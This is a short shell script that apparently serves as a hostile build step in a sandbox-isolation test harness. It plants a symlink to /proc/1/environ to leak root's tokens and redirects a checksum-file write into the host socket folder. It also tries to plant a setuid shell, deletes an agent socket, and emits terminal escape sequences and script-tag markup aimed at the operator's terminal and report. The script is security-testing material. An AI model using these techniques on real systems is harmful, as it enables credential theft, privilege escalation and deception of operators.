#!/bin/sh
# As builder, in the source folder: an artifact, then links for root to follow.
mode=$(cat attacks/mode)
mkdir -p release
tar czf release/hostile-1.0.0.tgz attacks
[ "$mode" = none ] && exit 0
# Token theft: the origin (run by root) serves what this link points at.
ln -sf /proc/1/environ release/x
if [ "$mode" = sums ]; then
  # Root writes SHA256SUMS through this link, into the host's socket folder.
  ln -sf /run/sandbench/planted-sums release/SHA256SUMS
fi
# The socket folder, directly: a setuid plant and a deleted socket (both must fail).
cp /bin/sh /run/sandbench/sh 2>/dev/null && chmod 4755 /run/sandbench/sh 2>/dev/null && echo "PLANTED a setuid shell"
rm -f /run/sandbench/agent.sock 2>/dev/null && [ ! -e /run/sandbench/agent.sock ] && echo "DELETED the socket"
# Escape sequences and markup in the output, for the operator's terminal and the report.
printf '\033]0;owned title\007\033[2J\033[1;1H\033[31m--> <!-- <script>alert(1)</script> | prepared\033[0m\n'
printf '\033[31mstderr <script>alert(2)</script>\033[0m\n' >&2
exit 0
